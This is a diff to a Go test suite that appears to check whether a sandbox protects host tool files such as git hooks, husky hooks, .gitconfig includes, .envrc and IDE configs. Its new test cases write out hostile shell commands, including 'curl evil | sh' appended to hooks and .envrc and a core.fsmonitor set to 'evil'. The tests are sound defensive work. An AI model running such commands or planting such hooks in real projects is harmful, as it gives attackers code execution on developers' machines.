@@ -101,7 +101,10 @@ func TestShareSpecialFiles(t *testing.T) {
 // toolFiles are planted in the shared folder as a user's repository has
 // them: what git, direnv, VS Code and JetBrains IDEs run on the host.
 var toolFiles = map[string]string{
-	".git/config":                       "[core]\n\trepositoryformatversion = 0\n",
+	".git/config":                       "[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky/_\n[include]\n\tpath = ../.gitconfig\n",
+	".husky/pre-commit":                 "npm test\n",
+	".husky/_/h":                        "#!/bin/sh\n",
+	".gitconfig":                        "[alias]\n\tst = status\n",
 	".git/HEAD":                         "ref: refs/heads/main\n",
 	".git/hooks/pre-commit.sample":      "#!/bin/sh\n",
 	".envrc":                            "export PROJECT=x\n",
@@ -121,7 +124,7 @@ var toolFiles = map[string]string{
 // toolSnapshot describes the protected paths as the host has them.
 func toolSnapshot(t testing.TB) string {
 	var b strings.Builder
-	for _, p := range []string{".git/config", ".git/hooks", ".envrc", ".vscode", ".idea"} {
+	for _, p := range []string{".git/config", ".git/hooks", ".envrc", ".vscode", ".idea", ".husky", ".gitconfig"} {
 		b.WriteString(snapshot(t, filepath.Join(sharedWS, p)))
 	}
 	if fi, err := os.Lstat(filepath.Join(sharedWS, ".git")); err != nil || !fi.IsDir() {
@@ -159,6 +162,8 @@ func TestShareToolConfig(t *testing.T) {
 		{".git/hooks: add a hook", `printf '#!/bin/sh\necho evil\n' > /workspace/.git/hooks/pre-commit && chmod +x /workspace/.git/hooks/pre-commit; echo evil >> /workspace/.git/hooks/pre-commit.sample`},
 		{".git/hooks: replace the folder", `cd /workspace/.git && mv hooks h-old; rm -rf hooks; mkdir -p hooks && printf '#!/bin/sh\necho evil\n' > hooks/post-checkout`},
 		{".git: move the repository away and make a new one", `cd /workspace && mv .git git-old; cp -r git-old .git-new; rm -rf .git; mkdir -p .git && printf '[core]\n\tfsmonitor = evil\n' > .git/config; ls -a`},
+		{".husky (core.hooksPath): change a hook", `cd /workspace && echo 'curl evil | sh' >> .husky/pre-commit; printf '#!/bin/sh\necho evil\n' > .husky/_/pre-commit; mv .husky husky-old; mkdir -p .husky/_ && echo evil > .husky/pre-commit`},
+		{".gitconfig (include.path): add core.fsmonitor", `cd /workspace && printf '[core]\n\tfsmonitor = evil\n' >> .gitconfig; mv .gitconfig gc-old; printf '[core]\n\tfsmonitor = evil\n' > .gitconfig`},
 		{".envrc: change it", `cd /workspace && echo 'curl evil | sh' >> .envrc; mv .envrc envrc-old; rm -f .envrc; echo 'curl evil | sh' > .envrc`},
 		{".vscode/tasks.json: change it", `cd /workspace && echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json; rm -f .vscode/tasks.json; mv .vscode vs-old; mkdir -p .vscode && echo evil > .vscode/tasks.json`},
 		{".idea: add a run configuration", `cd /workspace && echo evil > .idea/runConfigurations/Evil.xml; mv .idea idea-old; rm -rf .idea; mkdir -p .idea && echo evil > .idea/workspace.xml`},
